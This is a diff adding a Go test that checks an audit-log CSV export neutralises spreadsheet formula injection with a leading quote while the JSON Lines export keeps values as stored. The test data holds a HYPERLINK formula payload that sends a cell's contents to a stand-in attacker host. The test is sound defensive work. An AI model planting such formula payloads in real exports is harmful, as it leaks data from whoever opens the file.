@@ -259,3 +259,52 @@ func TestAuditExportFailsClosed(t *testing.T) {
 		t.Errorf("export with the audit write failing = %d (%.200s), want 503 with no events", resp.StatusCode, body)
 	}
 }
+
+// TestAuditExportCSVCarriesNoFormulas: a reason or user agent that starts
+// a spreadsheet formula reaches the CSV download neutralised by a leading
+// "'", and the JSON Lines download exactly as stored.
+func TestAuditExportCSVCarriesNoFormulas(t *testing.T) {
+	dbtest.Each(t, func(t *testing.T, db *models.DB) {
+		p := newPortal(t, db)
+		var stored []string
+		for _, first := range []string{"=", "+", "-", "@", "\t", "\r"} {
+			v := first + `HYPERLINK("https://evil.example/?"&A1)`
+			stored = append(stored, v)
+			_, err := models.AppendAudit(context.Background(), p.db.Write, models.AuditEntry{
+				At: p.clock.Now(), Actor: models.Actor{Email: "sara.senior@example.com", Tier: "senior", UserAgent: v},
+				Action: models.ActionDataViewed, Workspace: "acme", Table: "members", RecordIDs: []string{"7"}, Reason: v,
+			})
+			if err != nil {
+				t.Fatal(err)
+			}
+		}
+		c := p.login("aud.auditor@example.com")
+		form := url.Values{"workspace": {"acme"}, "action": {string(models.ActionDataViewed)}}
+		form.Set("format", "csv")
+		_, body := p.post(c, "/audit/export", form)
+		rows, err := csv.NewReader(strings.NewReader(body)).ReadAll()
+		if err != nil || len(rows) != len(stored)+1 {
+			t.Fatalf("CSV export: %d rows (%v), want a header and %d:\n%.500s", len(rows), err, len(stored), body)
+		}
+		for i, v := range stored {
+			if r := rows[i+1]; r[11] != "'"+v || r[14] != "'"+v {
+				t.Errorf("CSV reason %q, user agent %q; want both %q", r[11], r[14], "'"+v)
+			}
+		}
+		form.Set("format", "jsonl")
+		_, body = p.post(c, "/audit/export", form)
+		lines := strings.Split(strings.TrimSuffix(body, "\n"), "\n")
+		if len(lines) != len(stored) {
+			t.Fatalf("JSON Lines export: %d lines, want %d:\n%.500s", len(lines), len(stored), body)
+		}
+		for i, line := range lines {
+			var r models.AuditRecord
+			if err := json.Unmarshal([]byte(line), &r); err != nil {
+				t.Fatalf("line %q: %v", line, err)
+			}
+			if r.Reason != stored[i] || r.UserAgent != stored[i] {
+				t.Errorf("JSON Lines reason %q, user agent %q; want both %q exactly", r.Reason, r.UserAgent, stored[i])
+			}
+		}
+	})
+}
